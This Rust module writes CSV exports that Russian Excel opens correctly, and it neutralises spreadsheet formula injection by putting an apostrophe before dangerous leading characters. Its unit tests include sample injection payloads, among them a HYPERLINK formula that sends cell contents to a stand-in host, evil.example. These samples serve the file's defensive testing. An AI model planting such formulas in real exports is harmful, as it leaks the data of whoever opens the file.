//! CSV that Russian Excel opens correctly: a UTF-8 byte-order mark (without it Excel reads the
//! file as Windows-1251 and garbles Cyrillic) and `;` as the delimiter on request (Russian
//! Excel splits columns on `;`, because `,` is its decimal separator).
//!
//! Rows are written one at a time to any `Write`; the caller decides whether that is a file,
//! memory, or a bounded pipe to an HTTP response. Two tables: the commission's export (Russian
//! headers, see `rows`) and the rules' verdicts with their English column names, which
//! `yavka evaluate --format csv` and the results download keep for scripts.
//!
//! Every text cell goes through [`neutralise`]: a name such as `=HYPERLINK(…)` typed at
//! registration would otherwise run as a formula when the organiser opens the file in Excel
//! (CSV formula injection). Numbers are written as they are; XLSX, HTML and JSON keep names
//! intact, because they never evaluate text.

use std::borrow::Cow;
use std::io::Write;

use super::rows::Cell;
use crate::domain::rules::{Reason, Verdict};

/// The delimiter as a byte, or a Russian sentence saying what is allowed.
pub fn delimiter(c: char) -> Result<u8, String> {
    match c {
        ',' | ';' => Ok(c as u8),
        other => Err(format!(
            "разделитель CSV «{other}» не поддерживается: используйте «;» (для русского Excel) или «,»"
        )),
    }
}

/// A text cell as a spreadsheet may safely open it: one that begins with `=`, `+`, `-`, `@`, a
/// tab or a carriage return gets a leading apostrophe (OWASP's advice), which Excel and
/// LibreOffice show as text instead of evaluating. Everything else is left exactly as it was.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

/// A CSV writer that has already written the byte-order mark.
pub fn writer<W: Write>(mut out: W, delimiter: u8) -> std::io::Result<csv::Writer<W>> {
    out.write_all("\u{feff}".as_bytes())?;
    Ok(csv::WriterBuilder::new()
        .delimiter(delimiter)
        .from_writer(out))
}

/// Writes a header and rows; returns how many rows were written.
pub fn write_table<W: Write>(
    out: W,
    delimiter: u8,
    header: &[String],
    rows: impl IntoIterator<Item = Vec<Cell>>,
) -> anyhow::Result<u64> {
    let mut w = writer(out, delimiter)?;
    w.write_record(header)?;
    let mut n = 0;
    for row in rows {
        w.write_record(row.iter().map(|c| match c {
            Cell::Text(t) => neutralise(t).into_owned(),
            Cell::Int(_) => c.text().into_owned(),
        }))?;
        n += 1;
    }
    w.flush()?;
    Ok(n)
}

/// Gives a verdict's НМО code, if it has one.
pub type CodeOf<'a> = &'a dyn Fn(&Verdict) -> Option<String>;

/// Verdicts with the rules' own column names, as `yavka evaluate --format csv` and the
/// organiser's results download have always written them (scripts read these names; `shown`,
/// the prompts shown to the viewer, came later and so comes last). `code` adds a `code`
/// column, when given.
pub fn write_verdicts_csv<W: Write>(
    out: &mut W,
    rows: &[Verdict],
    delimiter: char,
    code: Option<CodeOf<'_>>,
) -> anyhow::Result<()> {
    let delimiter = self::delimiter(delimiter).map_err(|e| anyhow::anyhow!(e))?;
    let mut w = writer(out, delimiter)?;
    let mut header = vec![
        "viewer",
        "session",
        "seconds",
        "minutes",
        "confirmed",
        "required",
        "prompts",
        "eligible",
        "reasons",
        "name",
        "email",
        "education",
        "specialty",
        "shown",
    ];
    if code.is_some() {
        header.push("code");
    }
    w.write_record(&header)?;
    for v in rows {
        let mut record = vec![
            v.viewer.clone(),
            v.session.clone(),
            v.seconds.to_string(),
            v.minutes.to_string(),
            v.confirmed.to_string(),
            v.required.to_string(),
            v.prompts.to_string(),
            v.eligible.to_string(),
            Reason::join(&v.reasons),
            v.name.clone().unwrap_or_default(),
            v.email.clone().unwrap_or_default(),
            v.education.map_or("", |e| e.as_str()).to_owned(),
            v.specialty.clone().unwrap_or_default(),
            v.shown.to_string(),
        ];
        if let Some(code) = code {
            record.push(code(v).unwrap_or_default());
        }
        // Numbers and the rules' own words never start with a formula sign; names, e-mails,
        // specialties and ids come from people.
        w.write_record(record.iter().map(|cell| neutralise(cell).into_owned()))?;
    }
    w.flush()?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bom_semicolons_and_quoting() {
        let mut out = Vec::new();
        let header = vec!["ФИО".to_owned(), "Причины".to_owned()];
        let rows = vec![vec![
            Cell::from("Иванова Анна"),
            Cell::from("Засчитано 5 из 20 мин; Подтверждено 0 из 1 показанных (нужно 1)"),
        ]];
        assert_eq!(write_table(&mut out, b';', &header, rows).unwrap(), 1);
        let text = String::from_utf8(out).unwrap();
        assert!(text.starts_with('\u{feff}'));
        assert_eq!(
            text.trim_start_matches('\u{feff}'),
            "ФИО;Причины\nИванова Анна;\"Засчитано 5 из 20 мин; Подтверждено 0 из 1 показанных (нужно 1)\"\n"
        );
    }

    #[test]
    fn formulas_are_neutralised_and_ordinary_text_is_not() {
        let cases = [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\") Иван",
                true,
            ),
            ("+7 916 123-45-67", true),
            ("-1+2", true),
            ("@SUM(A1:A2)", true),
            ("\t=1", true),
            ("\r=1", true),
            ("Иванова Анна", false),
            ("Анна-Мария =1", false),
            ("", false),
        ];
        for (text, changed) in cases {
            let out = neutralise(text);
            assert_eq!(out != text, changed, "{text:?} → {out:?}");
            if changed {
                assert_eq!(out, format!("'{text}"));
            }
        }
    }

    #[test]
    fn text_cells_are_neutralised_and_numbers_are_not() {
        let evil = "=HYPERLINK(\"http://evil.example\",\"Click\") Иван";
        let mut out = Vec::new();
        let header = vec!["ФИО".to_owned(), "Минуты".to_owned()];
        let rows = vec![vec![Cell::from(evil), Cell::from(-5i64)]];
        write_table(&mut out, b';', &header, rows).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(text.contains(&format!("'{}", &evil[..10])), "{text}");
        assert!(text.ends_with(";-5\n"), "{text}");
    }

    #[test]
    fn only_known_delimiters() {
        assert_eq!(delimiter(';'), Ok(b';'));
        assert_eq!(delimiter(','), Ok(b','));
        assert!(delimiter('|').unwrap_err().contains("«;»"));
    }
}
